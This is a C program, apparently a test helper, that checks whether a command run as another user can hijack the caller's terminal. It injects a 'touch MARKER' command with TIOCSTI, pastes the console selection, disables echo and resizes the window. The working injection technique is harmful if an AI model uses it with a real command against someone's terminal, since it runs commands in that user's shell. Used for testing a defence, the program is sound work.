/* What a command run as another user would do to its caller's terminal (doas
 * CVE-2023-28339 and its relatives), on its fd 0 and on /dev/tty:
 *   - push a command line into the terminal's input with TIOCSTI, for the caller's shell to
 *     run once the command exits: `touch MARKER` (MARKER is argv[1]);
 *   - TIOCLINUX (TIOCL_PASTESEL: paste the console selection as input; only on a VT);
 *   - turn off echo and line editing (the caller's shell would be left deaf and blind);
 *   - shrink the window to 20x5.
 * One line per attempt: "<what>: ok" or "<what>: <errno text>". Exit status 0. */
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

static void say(const char *what, const char *on, int r) {
    printf("%s on %s: %s\r\n", what, on, r == 0 ? "ok" : strerror(errno));
}

static void attack(int fd, const char *on, const char *line) {
    int r = 0;
    for (const char *c = line; *c && r == 0; c++)
        r = ioctl(fd, TIOCSTI, c);
    say("TIOCSTI", on, r);
    char paste = 3; /* TIOCL_PASTESEL */
    say("TIOCLINUX", on, ioctl(fd, TIOCLINUX, &paste));
    struct termios t;
    r = tcgetattr(fd, &t);
    if (r == 0) {
        t.c_lflag &= ~(ECHO | ICANON);
        r = tcsetattr(fd, TCSANOW, &t);
    }
    say("tcsetattr -echo -icanon", on, r);
    struct winsize ws = {.ws_row = 5, .ws_col = 20};
    say("TIOCSWINSZ 20x5", on, ioctl(fd, TIOCSWINSZ, &ws));
}

int main(int argc, char **argv) {
    if (argc != 2) {
        fprintf(stderr, "usage: tty_attack MARKER\n");
        return 2;
    }
    char line[512];
    snprintf(line, sizeof line, "touch %s\n", argv[1]);
    char *name = ttyname(0);
    printf("my terminal: %s\r\n", name ? name : "none");
    attack(0, "fd 0", line);
    int tty = open("/dev/tty", O_RDWR | O_NOCTTY);
    if (tty < 0) {
        printf("open /dev/tty: %s\r\n", strerror(errno));
    } else {
        attack(tty, "/dev/tty", line);
        close(tty);
    }
    fflush(stdout);
    return 0;
}
